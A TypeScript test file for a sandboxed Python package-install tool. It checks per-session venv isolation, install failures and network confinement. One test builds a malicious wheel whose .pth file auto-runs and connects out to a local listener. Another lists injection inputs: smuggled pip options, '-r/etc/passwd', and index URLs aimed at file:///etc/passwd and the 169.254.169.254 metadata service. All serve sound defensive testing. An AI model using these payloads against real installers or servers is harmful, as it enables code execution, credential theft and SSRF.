import assert from "node:assert/strict";
import { startPypiIndex } from "../../../tests/support/pypi_index.ts";
import {
  callTool,
  createPythonSessions,
  ignoreUnless,
  type PythonSession,
  skipReason,
} from "../../../tests/support/python_sessions.ts";
import { createSandboxRunner } from "../sandbox/mod.ts";
import type { SandboxRunner, SandboxSpec } from "../sandbox/runner.ts";
import { pkgInstall } from "./pkg_install.ts";
import { sandboxEnv } from "./env.ts";
import { sandboxLimits } from "./launch.ts";
import { pythonExecutable, venvExists, venvMount } from "./venv.ts";

const ignore = ignoreUnless("pkg.install sandbox", await skipReason());

/** The real runner, recording every spec it was given. */
function recordingRunner(): SandboxRunner & { specs: SandboxSpec[] } {
  const real = createSandboxRunner({ insecureNoSandbox: false });
  const specs: SandboxSpec[] = [];
  return {
    kind: real.kind,
    specs,
    run(spec) {
      specs.push(spec);
      return real.run(spec);
    },
    // the real runner hands writable dirs to the sandbox uid under a root worker
    sandboxUid: (workspace: string) => real.sandboxUid(workspace),
  } as SandboxRunner & { specs: SandboxSpec[] };
}

/** Runs `code` the way run.python does: the session's interpreter, venv mounted read-only. */
async function importIn(session: PythonSession, runner: SandboxRunner, code: string) {
  const hasVenv = await venvExists(session.ctx);
  return await runner.run({
    argv: [pythonExecutable(hasVenv), "-c", code],
    workspace: session.ctx.workspace,
    env: sandboxEnv(hasVenv),
    mounts: hasVenv ? [venvMount(session.ctx, false)] : [],
    limits: sandboxLimits(session.ctx.limits),
    timeoutMs: 30_000,
    outputLimitBytes: 65_536,
  });
}

Deno.test({
  name: "pkgInstall() installs a wheel into one session's environment and no other",
  ignore,
  async fn() {
    await using index = await startPypiIndex([
      { name: "Demo_Pkg", version: "1.2.0" },
      { name: "dep-pkg", version: "0.1.0" },
      { name: "with-dep", version: "2.0", requires: ["dep-pkg>=0.1"] },
    ]);
    await using sessions = await createPythonSessions();
    const a = await sessions.session("a");
    const b = await sessions.session("b");
    const runner = recordingRunner();
    const changed: string[] = [];
    const deps = {
      runner,
      pipIndexUrl: index.url,
      onEnvironmentChanged: (id: string) => {
        changed.push(id);
      },
    };

    const outcome = await pkgInstall(a.ctx, {
      packages: ["demo-pkg==1.2.0", "with-dep"],
      no_deps: true,
    }, deps);
    assert.ok(outcome.ok);
    assert.equal(outcome.is_error, undefined, outcome.error_text ?? "");
    assert.deepEqual(outcome.result.installed, [
      { name: "Demo_Pkg", version: "1.2.0" },
      { name: "with-dep", version: "2.0" },
    ]);
    assert.deepEqual(outcome.result.failed, []);
    assert.equal(outcome.result.exit_code, 0);
    assert.match(outcome.result.output_tail, /Successfully installed/);
    assert.deepEqual(changed, ["a"]);
    assert.ok(a.events.some((e) => e.type === "log" && /Successfully installed/.test(e.data)));

    // only the download had network: the system's python3, the venv neither mounted nor
    // in its environment; the venv's pip installed offline; no step ran in the workspace
    const networked = runner.specs.filter((s) => s.network);
    assert.equal(networked.length, 1);
    const download = networked[0]!;
    assert.equal(download.argv[0], "python3");
    assert.ok(download.argv.includes("download"));
    assert.ok((download.mounts ?? []).every((m) => m.sandbox !== "/venv"));
    assert.ok(Object.values(download.env).every((v) => !v.includes("/venv")));
    const installs = runner.specs.filter((s) => s.argv.includes("install"));
    assert.equal(installs.length, 1);
    assert.ok(installs[0]!.argv.includes("--no-index") && !installs[0]!.network);
    assert.ok(runner.specs.every((s) => s.cwd === "/tmp"));
    // one deadline for the whole install: each pip step gets only what is left of it
    const limitMs = a.ctx.limits.runTimeoutMaxSeconds * 1000;
    assert.ok(download.timeoutMs <= limitMs);
    assert.ok(installs[0]!.timeoutMs < limitMs, "the install step gets what the download left");
    // the download directory is gone afterwards
    await assert.rejects(Deno.lstat(`${a.ctx.stateDir}/pip-downloads`), Deno.errors.NotFound);

    const inA = await importIn(a, runner, "import demo_pkg; print(demo_pkg.VALUE)");
    assert.equal(inA.stdout.trim(), "Demo_Pkg 1.2.0", inA.stderr);
    // no_deps: the dependency was not pulled in
    const dep = await importIn(a, runner, "import dep_pkg");
    assert.match(dep.stderr, /ModuleNotFoundError: No module named 'dep_pkg'/);
    const inB = await importIn(b, runner, "import demo_pkg");
    assert.notEqual(inB.exitCode, 0);
    assert.match(inB.stderr, /ModuleNotFoundError: No module named 'demo_pkg'/);
  },
});

Deno.test({
  name: "pkgInstall() reports INSTALL_FAILED with the missing package in failed",
  ignore,
  async fn() {
    await using index = await startPypiIndex([{ name: "demo-pkg", version: "1.0.0" }]);
    await using sessions = await createPythonSessions();
    const a = await sessions.session("a");
    const runner = createSandboxRunner({ insecureNoSandbox: false });
    const outcome = await pkgInstall(a.ctx, { packages: ["demo-pkg", "no-such-pkg"] }, {
      runner,
      pipIndexUrl: index.url,
    });
    assert.ok(outcome.ok);
    assert.equal(outcome.is_error, true);
    assert.match(
      outcome.error_text ?? "",
      /^INSTALL_FAILED: Cannot download the packages \(exit code 1\)/,
    );
    assert.deepEqual(outcome.result.failed, ["demo-pkg", "no-such-pkg"]);
    assert.deepEqual(outcome.result.installed, []);
    assert.equal(outcome.result.exit_code, 1);
    assert.match(outcome.result.output_tail, /no-such-pkg/);
  },
});

Deno.test({
  name: "pkgInstall() does not report a version pip could not install as installed",
  ignore,
  async fn() {
    // the reviewer's case: the system has some pytest; pip cannot get pytest==99.0
    await using index = await startPypiIndex([{ name: "pytest", version: "1.0.0" }]);
    await using sessions = await createPythonSessions();
    const a = await sessions.session("a");
    const outcome = await pkgInstall(a.ctx, { packages: ["pytest==99.0"] }, {
      runner: createSandboxRunner({ insecureNoSandbox: false }),
      pipIndexUrl: index.url,
    });
    assert.ok(outcome.ok);
    assert.equal(outcome.is_error, true);
    assert.match(outcome.error_text ?? "", /^INSTALL_FAILED: /);
    assert.deepEqual(outcome.result.installed, []);
    assert.deepEqual(outcome.result.failed, ["pytest"]);
    assert.notEqual(outcome.result.exit_code, 0);
  },
});

Deno.test({
  name: "pkgInstall() never runs code an installed wheel added while pip has network",
  ignore,
  async fn() {
    // a .pth file runs at every interpreter start in the venv; this one phones home
    using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
    const port = listener.addr.port;
    // what each connection said: the MARK variable of the process that made it
    const heard: string[] = [];
    const { promise: heardOld, resolve: oldArrived } = Promise.withResolvers<void>();
    const accepting = (async () => {
      for await (const conn of listener) {
        const said = await new Response(conn.readable).text().catch(() => "?");
        heard.push(said);
        if (said === "old") oldArrived();
      }
    })().catch(() => {});
    const pth = `import os, sys, socket; sys.stderr.write("pth-ran\\n"); ` +
      `s = socket.create_connection(("127.0.0.1", ${port}), timeout=2); ` +
      `s.sendall(os.environ.get("MARK", "pip").encode()); s.close()\n`;
    await using index = await startPypiIndex([
      { name: "evil-pth", version: "1.0", files: { "evil_pth.pth": pth } },
      { name: "demo-pkg", version: "1.0.0" },
    ]);
    await using sessions = await createPythonSessions();
    const a = await sessions.session("a");
    const runner = createSandboxRunner({ insecureNoSandbox: false });
    const deps = { runner, pipIndexUrl: index.url };

    const evil = await pkgInstall(a.ctx, { packages: ["evil-pth"] }, deps);
    assert.ok(evil.ok && !evil.is_error, evil.ok ? evil.error_text ?? "" : "");
    const second = await pkgInstall(a.ctx, { packages: ["demo-pkg"] }, deps);
    assert.ok(second.ok);
    assert.equal(second.is_error, undefined, second.error_text ?? "");
    assert.deepEqual(second.result.installed, [{ name: "demo-pkg", version: "1.0.0" }]);
    // the .pth did run in the offline steps, where it could not connect
    assert.match(second.result.output_tail, /pth-ran/);

    // the check can see an escape: the venv's interpreter started the way pip used to be
    // (`/venv/bin/python3 -I` with network) reaches the listener. Connections are accepted
    // in order, so once this one is heard, any made during the installs was heard before.
    const old = await runner.run({
      argv: ["/venv/bin/python3", "-I", "-c", "pass"],
      workspace: a.ctx.workspace,
      cwd: "/tmp",
      env: { ...sandboxEnv(true), MARK: "old" },
      mounts: [venvMount(a.ctx, false)],
      network: true,
      limits: sandboxLimits(a.ctx.limits),
      timeoutMs: 30_000,
      outputLimitBytes: 65_536,
    });
    assert.equal(old.exitCode, 0, old.stderr);
    await heardOld;
    listener.close();
    await accepting;
    assert.equal(heard[0], "old", `connections during the installs: ${heard.join(", ")}`);
  },
});

Deno.test("pkgInstall() refuses option injection and bad indexes before starting anything", async () => {
  await using sessions = await createPythonSessions();
  const a = await sessions.session("a");
  let started = 0;
  const runner: SandboxRunner = {
    kind: "bubblewrap",
    run() {
      started++;
      return Promise.reject(new Error("no process may start"));
    },
  };
  const attempts = [
    { packages: ["--index-url=https://evil.example/simple"] },
    { packages: ["demo", "-r/etc/passwd"] },
    { packages: ["demo --extra-index-url https://evil.example"] },
    { packages: ["demo @ https://evil.example/demo.whl"] },
    { packages: ["demo; import os"] },
    { packages: ["demo"], index_url: "file:///etc/passwd" },
    { packages: ["demo"], index_url: "http://127.0.0.1:6379/" },
    { packages: ["demo"], index_url: "http://169.254.169.254/latest/" },
    { packages: ["demo"], index_url: "https://ok.example/simple --trusted-host x" },
    { packages: [] },
  ];
  for (const args of attempts) {
    const outcome = await callTool(() => pkgInstall(a.ctx, args, { runner }));
    assert.equal(outcome.ok, false, JSON.stringify(args));
    if (!outcome.ok) assert.equal(outcome.error.code, "INVALID_ARGUMENT", outcome.error.message);
  }
  assert.equal(started, 0);
  assert.equal(await venvExists(a.ctx), false);
});

/** A runner that plays the four pkg.install steps without starting anything. */
function scriptedRunner(
  options: { downloadExit?: number; createExit?: number; pipExit?: number } = {},
) {
  const calls: string[] = [];
  const runner: SandboxRunner = {
    kind: "bubblewrap",
    async run(spec) {
      const venvHost = spec.mounts?.find((m) => m.sandbox === "/venv")?.host ?? "";
      const base = {
        stdout: "",
        stderr: "",
        signal: undefined,
        timedOut: false,
        cancelled: false,
        truncated: false,
        durationMs: 1,
      };
      if (spec.network) {
        calls.push("download");
        const exitCode = options.downloadExit ?? 0;
        const stderr = exitCode ? "ERROR: No matching distribution found for demo\n" : "";
        spec.onOutput?.("stderr", stderr);
        return { ...base, exitCode, stderr };
      }
      if (spec.argv.at(-1) === "/venv") {
        calls.push("create");
        const exitCode = options.createExit ?? 0;
        if (exitCode === 0) await Deno.writeTextFile(`${venvHost}/pyvenv.cfg`, "home = /usr/bin\n");
        else await Deno.writeTextFile(`${venvHost}/partial`, "");
        return { ...base, exitCode, stderr: exitCode ? "Error: venv module is broken\n" : "" };
      }
      if (spec.argv.includes("install")) {
        calls.push("pip");
        const exitCode = options.pipExit ?? 0;
        const stdout = exitCode ? "" : "Successfully installed demo-1.0\n";
        spec.onOutput?.("stdout", stdout);
        spec.onOutput?.("stderr", exitCode ? "ERROR: No matching distribution found\n" : "");
        return { ...base, exitCode, stdout };
      }
      calls.push("list");
      const row = { name: "demo", version: "1.0", satisfied: true };
      return {
        ...base,
        exitCode: 0,
        stdout: `${JSON.stringify([options.pipExit ? null : row])}\n`,
      };
    },
  };
  return { runner, calls };
}

Deno.test("pkgInstall() creates the venv once when two first installs race", async () => {
  await using sessions = await createPythonSessions();
  const a = await sessions.session("a");
  const { runner, calls } = scriptedRunner();
  const changed: string[] = [];
  const deps = {
    runner,
    pipIndexUrl: "https://idx.example/simple/",
    onEnvironmentChanged: (id: string) => void changed.push(id),
  };
  const [one, two] = await Promise.all([
    pkgInstall(a.ctx, { packages: ["demo"] }, deps),
    pkgInstall(a.ctx, { packages: ["demo"] }, deps),
  ]);
  assert.ok(one.ok && two.ok && !one.is_error && !two.is_error);
  assert.deepEqual(calls, ["download", "create", "pip", "list", "download", "pip", "list"]);
  assert.deepEqual(changed, ["a", "a"]);
  assert.deepEqual(one.result.installed, [{ name: "demo", version: "1.0" }]);
  const progress = a.events.filter((e) => e.type === "progress").map((e) => e.progress);
  assert.deepEqual(progress, [0, 1, 2, 3, 4, 0, 2, 3, 4]);
});

Deno.test("pkgInstall() removes a half-made venv so the next install starts afresh", async () => {
  await using sessions = await createPythonSessions();
  const a = await sessions.session("a");
  const broken = scriptedRunner({ createExit: 1 });
  const outcome = await pkgInstall(a.ctx, { packages: ["demo"] }, { runner: broken.runner });
  assert.ok(outcome.ok);
  assert.equal(outcome.is_error, true);
  assert.equal(
    outcome.error_text,
    "INSTALL_FAILED: Cannot create the environment (exit code 1): Error: venv module is broken",
  );
  assert.deepEqual(outcome.result.failed, ["demo"]);
  assert.deepEqual(broken.calls, ["download", "create"]);
  await assert.rejects(Deno.lstat(`${a.ctx.stateDir}/venv`), Deno.errors.NotFound);

  const pipFails = scriptedRunner({ pipExit: 1 });
  const changed: string[] = [];
  const second = await pkgInstall(a.ctx, { packages: ["demo"] }, {
    runner: pipFails.runner,
    onEnvironmentChanged: (id) => void changed.push(id),
  });
  assert.ok(second.ok);
  assert.match(
    second.error_text ?? "",
    /^INSTALL_FAILED: pip exited with code 1: ERROR: No matching/,
  );
  assert.deepEqual(second.result.failed, ["demo"]);
  assert.deepEqual(pipFails.calls, ["download", "create", "pip", "list"]);
  // the venv was new, so interpreters must still restart
  assert.deepEqual(changed, ["a"]);
});

Deno.test("pkgInstall() neither creates nor touches the venv when the download fails", async () => {
  await using sessions = await createPythonSessions();
  const a = await sessions.session("a");
  const { runner, calls } = scriptedRunner({ downloadExit: 1 });
  const outcome = await pkgInstall(a.ctx, { packages: ["demo"] }, { runner });
  assert.ok(outcome.ok);
  assert.match(
    outcome.error_text ?? "",
    /^INSTALL_FAILED: Cannot download the packages \(exit code 1\): ERROR: No matching/,
  );
  assert.deepEqual(outcome.result, {
    installed: [],
    failed: ["demo"],
    exit_code: 1,
    output_tail: "ERROR: No matching distribution found for demo\n",
  });
  assert.deepEqual(calls, ["download"]);
  assert.equal(await venvExists(a.ctx), false);
});

Deno.test("pkgInstall() refuses a caller's index whose host resolves to loopback", async () => {
  await using sessions = await createPythonSessions();
  const a = await sessions.session("a");
  for (const [exitCode, reason] of [[86, /resolves to a loopback/], [87, /does not resolve/]]) {
    const { runner, calls } = scriptedRunner({ downloadExit: exitCode as number });
    const outcome = await callTool(() =>
      pkgInstall(a.ctx, { packages: ["demo"], index_url: "http://sneaky.example/simple/" }, {
        runner,
      })
    );
    assert.equal(outcome.ok, false);
    if (!outcome.ok) {
      assert.equal(outcome.error.code, "INVALID_ARGUMENT");
      assert.match(outcome.error.message, /^Cannot use index_url "http:\/\/sneaky.example/);
      assert.match(outcome.error.message, reason as RegExp);
    }
    assert.deepEqual(calls, ["download"]);
  }
  assert.equal(await venvExists(a.ctx), false);
  // the operator's own index is not checked: the same exit code is a plain failure
  const operator = scriptedRunner({ downloadExit: 86 });
  const outcome = await pkgInstall(a.ctx, { packages: ["demo"] }, {
    runner: operator.runner,
    pipIndexUrl: "http://mirror.internal/simple/",
  });
  assert.ok(outcome.ok && outcome.is_error);
});

Deno.test({
  name: "pkgInstall() reports the version the environment holds after an upgrade",
  ignore,
  async fn() {
    await using index = await startPypiIndex([
      { name: "demo-pkg", version: "1.0.0" },
      { name: "demo-pkg", version: "2.0.0" },
    ]);
    await using sessions = await createPythonSessions();
    const a = await sessions.session("a");
    const deps = {
      runner: createSandboxRunner({ insecureNoSandbox: false }),
      pipIndexUrl: index.url,
    };
    const pinned = await pkgInstall(a.ctx, { packages: ["demo-pkg==1.0.0"] }, deps);
    assert.ok(pinned.ok);
    assert.deepEqual(pinned.result.installed, [{ name: "demo-pkg", version: "1.0.0" }]);
    const same = await pkgInstall(a.ctx, { packages: ["demo-pkg"] }, deps);
    assert.ok(same.ok);
    assert.deepEqual(same.result.installed, [{ name: "demo-pkg", version: "1.0.0" }]);
    assert.match(same.result.output_tail, /already satisfied/);
    const upgraded = await pkgInstall(a.ctx, { packages: ["demo-pkg"], upgrade: true }, deps);
    assert.ok(upgraded.ok);
    assert.deepEqual(upgraded.result.installed, [{ name: "demo-pkg", version: "2.0.0" }]);
  },
});
